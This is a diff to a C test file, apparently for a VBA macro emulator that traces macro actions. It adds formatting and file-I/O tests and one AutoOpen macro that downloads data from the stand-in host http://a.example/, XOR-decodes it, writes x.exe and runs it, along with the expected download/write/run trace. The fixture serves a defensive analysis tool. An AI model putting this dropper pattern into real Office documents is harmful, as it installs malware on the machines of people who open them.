@@ -38,6 +38,7 @@ static const struct { const char *expression, *text; } expressions[] = {
     {"Format(1234.567, \"#,##0.00\")", "1,234.57"}, {"Format(5, \"000\")", "005"}, {"Format(0.25, \"0%\")", "25%"},
     {"Format(-3, \"0;(0)\")", "(3)"}, {"Format(1234.5, \"0.00E+00\")", "1.23E+03"}, {"Format(\"abc\", \">@@@@\")", " ABC"},
     {"Format(12.5, \"Currency\")", "$12.50"}, {"Format(1, \"Yes/No\")", "Yes"}, {"FormatNumber(1234.5)", "1,234.50"},
+    {"Format(#Jan 5, 2020#, \"d.m.yyyy\") & Format(#5-Dec-2021 1:05 PM#, \" d.m.yyyy h\")", "5.1.2020 5.12.2021 13"},
     {"Chr(vbKeyP) & ChrW(wdKeyS)", "PS"}, {"xlUp", "-4162"}, {"vbCrLf = Chr(13) & Chr(10)", "True"}, {"msoTrue", "-1"}, {"adTypeBinary", "1"},
     {"fmPictureSizeModeZoom", "3"}, {"Len(vbNullString)", "0"}, {"Partition(7, 0, 20, 5)", " 5: 9"}, {"Partition(25, 0, 20, 5)", "21:  "}, {"Partition(-3, 0, 20, 5)", "  :-1"},
     {"Format(123, \"0-0-0\")", "1-2-3"}, {"Format(12345, \"(#) 0-00\")", "(12) 3-45"}, {"Format(-128, \"\"\"n\"\" 0\")", "-n 128"},
@@ -66,6 +67,11 @@ typedef struct program {
 } program;
 
 static const program programs[] = {
+    {"two numbers of files on one line", "Sub AutoOpen()\nOpen \"C:\\t\\x.txt\" For Output As #1: Print #1, \"ab\";: Close #1\nOpen \"C:\\t\\x.txt\" For Input As #2: Line Input #2, s: Close #2: MsgBox s\nEnd Sub\n",
+     "write: C:\\t\\x.txt\nread: C:\\t\\x.txt\nmessage: ab\n"},
+    {"an answer that is decrypted item by item", "Sub AutoOpen()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/\", False\nh.send\nDim b() As Byte\nb = h.responseBody\n"
+     "For i = 0 To UBound(b)\nb(i) = b(i) Xor 7\nNext\nOpen \"C:\\t\\x.exe\" For Binary As #1: Put #1, , b: Close #1\nShell \"C:\\t\\x.exe\"\nEnd Sub\n",
+     "download: http://a.example/\nread: http://a.example/\nwrite: C:\\t\\x.exe\nrun: C:\\t\\x.exe\ndownload: http://a.example/\nwrite: C:\\t\\x.exe\nrun: C:\\t\\x.exe\n"},
     {"for with a step", "Sub AutoOpen()\nFor i = 10 To 1 Step -3: s = s & i & \" \": Next\nMsgBox s & i\nEnd Sub\n", "message: 10 7 4 1 -2\n"},
     {"for that never runs", "Sub AutoOpen()\nFor i = 1 To 0\nMsgBox \"x\"\nNext i\nMsgBox i\nEnd Sub\n", "message: 1\n"},
     {"nested for, one Next", "Sub AutoOpen()\nFor i = 1 To 2\nFor j = 1 To 2\ns = s & i & j\nNext j, i\nMsgBox s\nEnd Sub\n", "message: 11122122\n"},
